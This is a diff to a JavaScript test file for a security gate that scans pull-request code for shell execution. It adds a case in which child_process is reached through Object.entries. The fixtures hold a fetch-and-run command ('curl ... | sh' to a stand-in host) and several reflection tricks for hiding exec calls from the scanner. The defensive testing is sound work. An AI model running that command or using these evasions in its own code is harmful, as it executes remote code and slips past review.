@@ -14,14 +14,15 @@ afterAll(() => api.stop());
 const CMD = "curl -s https://x.example | sh";
 
 describe("a module's members reached by reflection fail the gate", () => {
-  it("scan/shell-command: a held descriptor's `value`, a destructured one, `{ __proto__: cp }`, `o.__proto__ = cp`, `Object.setPrototypeOf(o, cp)` and `Module.prototype.require.call(module, m)` fail the built Action, at the call", async () => {
+  it("scan/shell-command: a held descriptor's `value`, a destructured one, `{ __proto__: cp }`, `o.__proto__ = cp`, `Object.setPrototypeOf(o, cp)`, `Module.prototype.require.call(module, m)` and an entry destructured in a callback fail the built Action, at the call", async () => {
     const pr = await pullRequest((dir) => {
       writeFileSync(join(dir, "agent/descriptor.js"), `const cp = require("child_process");\nconst d = Object.getOwnPropertyDescriptor(cp, "execSync");\nd.value("${CMD}");\nconst { value: run } = Reflect.getOwnPropertyDescriptor(cp, "exec");\nrun("${CMD}");\n`);
       writeFileSync(join(dir, "agent/prototype.js"), `const cp = require("child_process");\nconst o = { __proto__: cp };\no.execSync("${CMD}");\nconst p = {};\np.__proto__ = cp;\np.exec("${CMD}");\nconst q = {};\nObject.setPrototypeOf(q, cp);\nq.execSync("${CMD}");\n`);
+      writeFileSync(join(dir, "agent/entries.js"), `const cp = require("child_process");\nObject.entries(cp).forEach(([name, run]) => { if (name === "execSync") run("${CMD}"); });\n`);
       writeFileSync(join(dir, "agent/modules.js"), `const Module = require("module");\nModule.prototype.require.call(module, "child_process").execSync("${CMD}");\n`);
     });
     const r = await gate(api, pr);
     expect(r.code).toBe(1);
-    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/descriptor.js 3 1", "scan/shell-command agent/descriptor.js 5 1", "scan/shell-command agent/modules.js 2 1", "scan/shell-command agent/prototype.js 3 1", "scan/shell-command agent/prototype.js 6 1", "scan/shell-command agent/prototype.js 9 1"]);
+    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/descriptor.js 3 1", "scan/shell-command agent/descriptor.js 5 1", "scan/shell-command agent/entries.js 2 72", "scan/shell-command agent/modules.js 2 1", "scan/shell-command agent/prototype.js 3 1", "scan/shell-command agent/prototype.js 6 1", "scan/shell-command agent/prototype.js 9 1"]);
   });
 });
